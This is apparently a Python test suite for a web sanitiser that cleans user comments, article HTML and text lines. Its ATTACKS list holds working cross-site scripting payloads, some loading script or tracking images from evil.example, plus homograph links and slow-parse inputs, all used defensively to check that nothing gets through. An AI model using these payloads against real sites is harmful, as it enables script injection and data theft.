"""What comes out of the sanitiser, whatever goes in."""

import unicodedata
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from plaintalk.kernel.markup import (
    ARTICLE_TAGS,
    COMMENT_REL,
    COMMENT_TAGS,
    MAX_CONTAINERS,
    SCHEMES,
    clean_article_html,
    clean_block,
    clean_line,
    paragraphs_html,
    plain_text,
    render_comment,
    unseen_in,
)

ATTRIBUTES = {
    "a": {"href", "rel"},
    "ol": {"start"},
    "li": {"value"},
    "span": {"class"},
    "td": {"colspan", "rowspan"},
    "th": {"colspan", "rowspan"},
}

# Each of these runs script, asks another host, or changes the page, where nothing stops it.
ATTACKS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x20type='text/javascript'>alert(1);</script>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "</p><script>alert(1)</script><p>",
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'//",
    "<img src=`x` onerror=alert(1)>",
    "<IMG SRC=javascript:alert(1)>",
    "<img src='https://evil.example/track.gif'>",
    "<img srcset='https://evil.example/t 1x'>",
    "<picture><source srcset=//evil.example/t><img></picture>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<applet code=x></applet>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='position:fixed;inset:0'>cover</p>",
    "<div style=width:expression(alert(1))>x</div>",
    "<p onmouseover=alert(1)>x</p>",
    "<p onclick\x0b=alert(1)>x</p>",
    "<p/onpointerenter=alert(1)>x",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<form action='javascript:alert(1)'><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1)>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#x6A;avascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='blob:https://evil.example/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<a href='https://x.example/' onclick=alert(1) target=_top style=x>x</a>",
    "<a href='https://x.example/\"onmouseover=alert(1)'>x</a>",
    "<a name=cookie id=location>x</a>",
    "<p id=__proto__ class=link-host>x</p>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java\tscript:alert(1))",
    "[x]( javascript:alert(1) 'title')",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example)",
    "[x](https://good.example@evil.example/)",
    "[x](https://good.example\\@evil.example/)",
    '[x](https://x.example "onmouseover=alert(1)")',
    "[x](https://x.example/'><script>alert(1)</script>)",
    "[<img src=x onerror=alert(1)>](https://x.example)",
    "![x](https://evil.example/track.gif)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[x]: javascript:alert(1)\n[x]",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "`<img src=x onerror=alert(1)>`",
    "> <script>alert(1)</script>",
    "- <svg onload=alert(1)>\n- x",
    "1. [x](javascript:alert(1))\n2. <b onclick=alert(1)>x</b>",
    "**<script>alert(1)</script>**",
    "https://x.example/<script>alert(1)</script>",
    'https://x.example/"onmouseover="alert(1)',
    'www.x.example/"><img src=x onerror=alert(1)>',
    "\u202e<script>alert(1)</script>\u202c",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<a href='https://x.example/'><a href='javascript:alert(1)'>x",
    "<table><td><script>alert(1)</script><tr onclick=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "\x00<\x00script>alert(1)",
)

# Pieces that make a parser work, in any order.
PIECES = st.sampled_from(
    (
        *("<", ">", "</", "<p>", "</p>", "<div>", "<b>", "</b>", "<a href='", "'>", "</a>", "<li>"),
        *("<ul>", "<table>", "<td>", "<h1>", "<pre>", "<br><br>", "<script>", "<!--", "-->"),
        *("<svg>", "&#x", "*", "**", "[", "](", ")", "> ", "- ", "1. ", "7) ", "\n", "\n\n"),
        *("    ", "\\", "`", "_", "#", "|", "https://x.example/", "javascript:", "www.x.example"),
        *("mailto:a@x.example", "://", "\u202e", "\u200d", "\u0301", "\ufe0f", "\U0001f469"),
        *("\ud800", "\x00", "&", '"', " ", "a"),
    )
)
JUNK = st.lists(PIECES | st.text(max_size=8), max_size=40).map("".join)


class _Elements(HTMLParser):
    """Every element and attribute of a piece of HTML, as a second parser sees it."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.seen: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.seen.append(("!--", {}))

    def handle_decl(self, decl: str) -> None:
        self.seen.append(("!", {}))


def _assert_only(html: str, tags: frozenset[str]) -> None:
    for tag, attributes in _Elements(html).seen:
        assert tag in tags
        assert set(attributes) <= ATTRIBUTES.get(tag, set())
        if "href" in attributes:
            assert urlsplit(attributes["href"] or "").scheme in SCHEMES


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_gets_through_in_a_comment(attack: str) -> None:
    _assert_only(render_comment(attack), COMMENT_TAGS)


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_gets_through_in_an_article(attack: str) -> None:
    html = clean_article_html(attack)

    _assert_only(html, ARTICLE_TAGS)
    assert clean_article_html(html) == html


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_gets_through_as_plain_paragraphs(attack: str) -> None:
    _assert_only(paragraphs_html(attack), frozenset({"p", "br"}))


@given(JUNK)
def test_a_comment_never_holds_more_than_its_elements(typed: str) -> None:
    html = render_comment(typed)

    _assert_only(html, COMMENT_TAGS)
    for tag, attributes in _Elements(html).seen:
        assert tag != "a" or attributes["rel"] == COMMENT_REL
        assert tag != "span" or attributes["class"] == "link-host"


@example("<b>\ud7c7<b>\ufe0f")
@given(JUNK)
def test_an_article_never_holds_more_than_its_elements_and_settles_at_once(html: str) -> None:
    once = clean_article_html(html)

    _assert_only(once, ARTICLE_TAGS)
    assert clean_article_html(once) == once


@given(JUNK | st.text())
def test_a_cleaned_text_is_clean(text: str) -> None:
    block, line = clean_block(text), clean_line(text, max_chars=40)

    assert clean_block(block) == block
    assert clean_line(line, max_chars=40) == line
    assert unseen_in(block) == ()
    assert len(line) <= 40
    assert "\n" not in line
    for cleaned in (block, line):
        assert unicodedata.is_normalized("NFC", cleaned)
        assert not set(cleaned) & set(
            "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200b"
        )
        cleaned.encode()


@given(JUNK | st.text())
def test_text_never_contains_markup_and_its_words_survive(text: str) -> None:
    assert plain_text(paragraphs_html(text)).split() == clean_block(text).split()


@given(st.text(st.characters(categories=["L", "N"]), min_size=1))
def test_ordinary_words_in_a_comment_are_left_as_they_are(words: str) -> None:
    assert plain_text(render_comment(words)).split() == clean_block(words).split()


# --- Comments


@pytest.mark.parametrize(
    ("typed", "shown"),
    [
        pytest.param(
            "One.\n\nTwo.", "<p>One.</p>\n<p>Two.</p>", id="a-blank-line-parts-paragraphs"
        ),
        pytest.param("One\ntwo", "<p>One<br>\ntwo</p>", id="a-newline-breaks-the-line"),
        pytest.param("*so* **very**", "<p><em>so</em> <strong>very</strong></p>", id="emphasis"),
        pytest.param("1. Simon said no.", "<p>1. Simon said no.</p>", id="a-number-is-no-list"),
        pytest.param("1915. A year.", "<p>1915. A year.</p>", id="a-year-is-no-list"),
        pytest.param("* their", "<p>* their</p>", id="a-correction-is-no-list"),
        pytest.param("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>", id="two-are-a-list"),
        pytest.param(
            "3. a\n7. b\n8. c",
            '<ol start="3">\n<li>a</li>\n<li value="7">b</li>\n<li>c</li>\n</ol>',
            id="list-numbers-stay-as-typed",
        ),
        pytest.param("# not a heading", "<p># not a heading</p>", id="no-heading"),
        pytest.param("a | b\n--- | ---", "<p>a | b<br>\n--- | ---</p>", id="no-table"),
        pytest.param("<b>x</b>", "<p>&lt;b&gt;x&lt;/b&gt;</p>", id="html-is-shown-as-typed"),
        pytest.param("&eacute; &amp;", "<p>&amp;eacute; &amp;amp;</p>", id="references-as-typed"),
        pytest.param("sh*t, f*ck", "<p>sh*t, f*ck</p>", id="asterisks-inside-words-stay"),
        pytest.param("2*3*4 = 24", "<p>2*3*4 = 24</p>", id="sums-stay"),
        pytest.param("my_own_name", "<p>my_own_name</p>", id="underscores-stay"),
        pytest.param("I agree.So what", "<p>I agree.So what</p>", id="a-missing-space-is-no-site"),
        pytest.param(
            "> quote\n\nmine", "<blockquote>\n<p>quote</p>\n</blockquote>\n<p>mine</p>", id="quote"
        ),
        pytest.param("", "", id="nothing"),
        pytest.param(" \n\t\n ", "", id="only-spaces"),
        pytest.param("“We don’t”", "<p>“We don’t”</p>", id="quotation-marks-stay"),
    ],
)
def test_the_small_markdown(typed: str, shown: str) -> None:
    assert render_comment(typed) == shown


@pytest.mark.parametrize(
    ("typed", "host"),
    [
        ("[read this](https://a.example/x)", "a.example"),
        ("[bank.example](https://evil.example)", "evil.example"),
        ("[https://bank.example](https://evil.example)", "evil.example"),
        ("[*so*](https://a.example)", "a.example"),
        ("[write](mailto:desk@a.example)", "desk@a.example"),
        ("[x](https://xn--e1afmkfd.xn--p1ai/)", "пример.рф"),
        ("[x](https://日本.jp/)", "日本.jp"),
        # A Cyrillic а among Latin letters, a Cyrillic word under a Latin top-level domain.
        ("https://аpple.com/", "xn--pple-43d.com"),
        ("[https://аpple.com](https://аpple.com/)", "xn--pple-43d.com"),
        ("[x](https://аррӏе.com/)", "xn--80ak6aa92e.com"),
    ],
)
def test_a_link_says_where_it_leads(typed: str, host: str) -> None:
    assert f'</a> <span class="link-host">({host})</span>' in render_comment(typed)


@pytest.mark.parametrize(
    "typed",
    [
        "https://a.example/path?q=1#top",
        "www.a.example",
        "[a.example](https://www.a.example/page)",
        "[https://A.example/](https://a.example/page)",
        "<https://a.example>",
        "mailto:desk@a.example",
        "https://пример.рф/",
    ],
)
def test_an_address_that_is_its_own_text_is_not_repeated(typed: str) -> None:
    html = render_comment(typed)

    assert "<a href=" in html
    assert "link-host" not in html


def test_a_link_is_not_followed_by_machines_and_opens_no_door() -> None:
    assert 'rel="nofollow ugc noopener"' in render_comment("https://a.example")


@pytest.mark.parametrize("deep", ["> " * 10_000 + "x", ">" * 10_000 + "x", "> - " * 5_000 + "x"])
def test_quotes_are_limited_in_depth_and_keep_their_words(deep: str) -> None:
    html = render_comment(deep)

    assert html.count("<blockquote>") <= MAX_CONTAINERS
    assert "x" in plain_text(html)


def test_no_depth_of_lists_drops_a_word() -> None:
    typed = "\n".join("  " * depth + f"- item{depth}." for depth in range(60))

    html = render_comment(typed)

    assert all(f"item{depth}." in html for depth in range(60))


# These take milliseconds where the work grows with the length, and minutes where with its square.
@pytest.mark.parametrize(
    "typed",
    [
        "[" * 20_000,
        "[" * 20_000 + "](https://a.example)",
        "[a](" * 10_000,
        "*" * 20_000,
        "*a **b " * 4_000 + "c** d* " * 4_000,
        "<" * 20_000,
        "<http://" * 5_000,
        "http://a.example/" * 5_000,
        "www.a." * 5_000,
        "mailto:a@" * 5_000,
        "- a\n" * 5_000,
        "\\" * 20_000,
        " " * 20_000 + "a",
        "\t" * 20_000,
        "a" + "\u0301" * 20_000,
        "\u200d" * 20_000,
        "<div>" * 5_000,
        "<b><p>" * 2_000,
        "<br>" * 10_000,
        "&" * 20_000,
    ],
    ids=lambda typed: ascii(typed[:12]),
)
def test_no_text_takes_for_ever(typed: str) -> None:
    render_comment(typed)
    clean_article_html(typed)
    plain_text(typed)
    clean_line(typed, max_chars=80)


# --- Articles


@pytest.mark.parametrize(
    ("given_html", "kept"),
    [
        pytest.param("plain", "<p>plain</p>", id="text-gets-a-paragraph"),
        pytest.param("<b>a</b> <i>b</i>", "<p><strong>a</strong> <em>b</em></p>", id="bold-italic"),
        pytest.param("<div><div>a</div>b</div>", "<p>a</p><p>b</p>", id="div-is-a-paragraph"),
        pytest.param("a<br><br>b", "<p>a</p><p>b</p>", id="two-breaks-are-a-paragraph"),
        pytest.param("<p>a<br>b</p>", "<p>a<br>b</p>", id="one-break-stays"),
        pytest.param("<h1>a</h1><h6>b</h6>", "<h2>a</h2><h4>b</h4>", id="headings-fit-the-page"),
        pytest.param("<p>a</p><p> </p><p>&nbsp;</p>", "<p>a</p>", id="empty-paragraphs-go"),
        pytest.param("<p>a <img src=//x> b</p>", "<p>a  b</p>", id="no-picture"),
        pytest.param("<p><a href='/x'>a</a></p>", "<p>a</p>", id="a-link-to-nowhere-is-text"),
        pytest.param("<p><a>a</a> <a href='#n'>1</a></p>", "<p>a 1</p>", id="nor-to-itself"),
        pytest.param(
            "<table><tr><td>1<td>2</table>",
            "<table><tbody><tr><td>1</td><td>2</td></tr></tbody></table>",
            id="table",
        ),
        pytest.param("<p>a\u202eb&#x202e;c&#8203;d</p>", "<p>abcd</p>", id="unseen-characters-go"),
        pytest.param("<form>x</form><p>a</p>", "<p>a</p>", id="forms-go-with-their-content"),
        pytest.param("<p>“a” – ‘b’</p>", "<p>“a” – ‘b’</p>", id="quotation-marks-stay"),
    ],
)
def test_an_article_keeps_what_it_means(given_html: str, kept: str) -> None:
    assert clean_article_html(given_html) == kept


def test_relative_links_are_taken_from_the_address_of_the_page() -> None:
    html = clean_article_html("<a href='../b'>x</a>", base_url="https://n.example/a/c")

    assert html == '<p><a href="https://n.example/b" rel="noopener">x</a></p>'
    assert clean_article_html(html) == html


@pytest.mark.parametrize("base", ["", "javascript:alert(1)", "/a", "https://[", "ftp://a.example/"])
def test_a_base_that_is_no_web_address_is_as_none(base: str) -> None:
    assert clean_article_html("<a href='b'>x</a>", base_url=base) == "<p>x</p>"


def test_plain_text_parts_blocks_and_leaves_out_where_links_lead() -> None:
    html = render_comment("See [this](https://a.example)\nnow.\n\n- a & b\n- <c>")

    assert plain_text(html) == "See this\nnow.\n\na & b\n<c>"
    assert plain_text("<p>a<br>b</p><p>c</p>") == "a\nb\n\nc"


# --- Lines


@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        pytest.param("  Anna \t\n  Petrosyan ", "Anna Petrosyan", id="spaces"),
        pytest.param("Ann\u200ba\u202e\x00\ufeff", "Anna", id="unseen-characters"),
        pytest.param("\u3164\u115f\uffa0", "", id="blank-names-are-empty"),
        pytest.param("e\u0301", "\u00e9", id="composed"),
        pytest.param("می\u200cروم", "می\u200cروم", id="persian-joiner-stays"),
        pytest.param("क्\u200dष", "क्\u200dष", id="hindi-joiner-stays"),
        pytest.param("an\u200dna", "anna", id="latin-joiner-goes"),
        pytest.param("\U0001f469\u200d\U0001f680", "\U0001f469\u200d\U0001f680", id="emoji-joiner"),
        pytest.param("❤\ufe0f\u200d\U0001f525", "❤\ufe0f\u200d\U0001f525", id="emoji-selector"),
        pytest.param(
            "\U0001f3f4\U000e0067\U000e0062\U000e007f",
            "\U0001f3f4\U000e0067\U000e0062\U000e007f",
            id="flag-tags-stay",
        ),
        pytest.param("a\U000e0067\U000e0062", "a", id="hidden-tags-go"),
        pytest.param("a\ud800b", "ab", id="lone-surrogates-go"),
        pytest.param("«\u00a0Oui\u00a0»", "«\u00a0Oui\u00a0»", id="french-spaces-stay"),
    ],
)
def test_a_line_keeps_what_is_seen(typed: str, kept: str) -> None:
    assert clean_line(typed, max_chars=80) == kept


def test_a_line_that_is_cut_says_so_and_halves_nothing() -> None:
    assert clean_line("abcdef", max_chars=6) == "abcdef"
    assert clean_line("abcdefg", max_chars=6) == "abcde…"
    assert clean_line("abcd\U0001f469\u200d\U0001f680x", max_chars=6) == "abcd…"
    assert clean_line("abc", max_chars=0) == ""


def test_a_tower_of_marks_is_cut_down() -> None:
    assert len(clean_line("a" + "\u0335" * 200, max_chars=500)) < 12


def test_what_was_dropped_can_be_named() -> None:
    assert unseen_in("a\u202eb\x00c\u202e\r\n") == ("U+202E", "U+0000")
    assert unseen_in("An ordinary “text”.\r\n") == ()
